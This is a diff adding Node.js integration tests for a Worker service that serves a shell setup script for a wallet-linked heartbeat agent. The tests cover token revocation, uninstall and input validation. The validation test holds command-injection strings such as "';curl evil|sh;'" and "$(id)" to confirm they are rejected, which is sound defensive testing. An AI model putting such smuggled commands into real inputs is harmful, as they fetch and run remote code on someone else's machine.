@@ -7,6 +7,8 @@ import { existsSync } from "node:fs";
 import { chmod, mkdir, readFile, readdir, stat, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { test } from "node:test";
+import { problem, startWorker } from "./harness.js";
+import { ADMIN_TOKEN, as, people } from "./people.js";
 import { TOKEN, WALLET, processesWith, setupScript, startMachine, which } from "./machine.js";
 
 const SHELLS = ["dash", "bash", "busybox"];
@@ -406,4 +408,59 @@ test("where systemd runs it becomes a service of it", { ...limit, skip: !canUnsh
     "disable --quiet hatch-worker.service",
     "daemon-reload",
   ]);
+});
+
+const worker = await startWorker({ ENVIRONMENT: "production", RATE_LIMITS: "off", ADMIN_TOKEN });
+const script = (query) => worker.api("GET", `/api/setup?${new URLSearchParams(query)}`);
+
+test("the script that the Worker serves makes a machine beat, until its token is revoked", limit, async (t) => {
+  const { signIn, ok } = people(worker);
+  const { token: session } = await signIn();
+  const { walletAddress: wallet, token } = await ok("POST", "/workers", {}, session);
+  const served = await script({ wallet: `0x${wallet.slice(2).toUpperCase()}`, token });
+  assert.equal(served.status, 200);
+  assert.match(served.headers.get("content-type"), /^text\/x-shellscript/);
+  assert.equal(served.headers.get("cache-control"), "no-store");
+  const text = await served.text();
+  assert.equal(text, setupScript({ wallet, token, api: worker.url }));
+
+  const machine = await startMachine(t);
+  await machine.docker("web\t0.0.0.0:8080->80/tcp\n");
+  const installed = await machine.setup("", { text });
+  assert.equal(installed.code, 0, installed.said);
+  // It rests after a beat that has arrived.
+  const pause = await machine.pause();
+  between(270, 330, pause);
+  const { status, window, hostname } = await ok("GET", `/workers/${wallet}`, undefined, session);
+  assert.equal(status, "HEALTHY");
+  assert.ok(Math.abs(Date.parse(window.endTime) - Date.now()) < 60_000);
+  assert.equal(hostname, execFileSync("uname", ["-n"], { encoding: "utf8" }).trim());
+  assert.deepEqual(await ok("GET", `/workers/${wallet}/containers`, undefined, session), [{ containerName: "web", port: "8080" }]);
+  assert.match((await machine.setup("status", { text })).said, /accepted by/);
+
+  // Revoked, it goes on asking, and moves nothing.
+  assert.equal((await worker.api("DELETE", `/workers/${wallet}`, undefined, as(session))).status, 204);
+  pause.wake();
+  between(270, 330, await machine.pause());
+  assert.match(await machine.read("log"), /refuses this machine's token \(401\)/);
+  assert.deepEqual((await ok("GET", `/workers/${wallet}`, undefined, session)).window, window);
+
+  assert.equal((await machine.setup("uninstall", { text })).code, 0);
+  assert.equal(existsSync(machine.home), false);
+  assert.deepEqual(processesWith(machine.home), []);
+});
+
+test("the Worker puts nothing into the script but a wallet, a token and its own address", limit, async () => {
+  const { signIn, ok } = people(worker);
+  const { token: session } = await signIn();
+  const { walletAddress: wallet, token } = await ok("POST", "/workers", {}, session);
+  const shell = "';curl evil|sh;'";
+  for (const bad of [shell, `${wallet}${shell}`, `${wallet}\n`, "", wallet.slice(2), `${wallet}0`, `0x${"g".repeat(40)}`, "@WALLET@"]) {
+    await problem(await script({ wallet: bad, token }), 400, "validation_failed");
+  }
+  for (const bad of [shell, `${token}${shell}`, `${token}\n`, "", "wk_", token.slice(0, -1), `${token}0`, session, TOKEN, "@TOKEN@", "$(id)"]) {
+    await problem(await script({ wallet, token: bad }), 400, "validation_failed");
+  }
+  await problem(await script({ token }), 400, "validation_failed");
+  await problem(await script({ wallet }), 400, "validation_failed");
 });
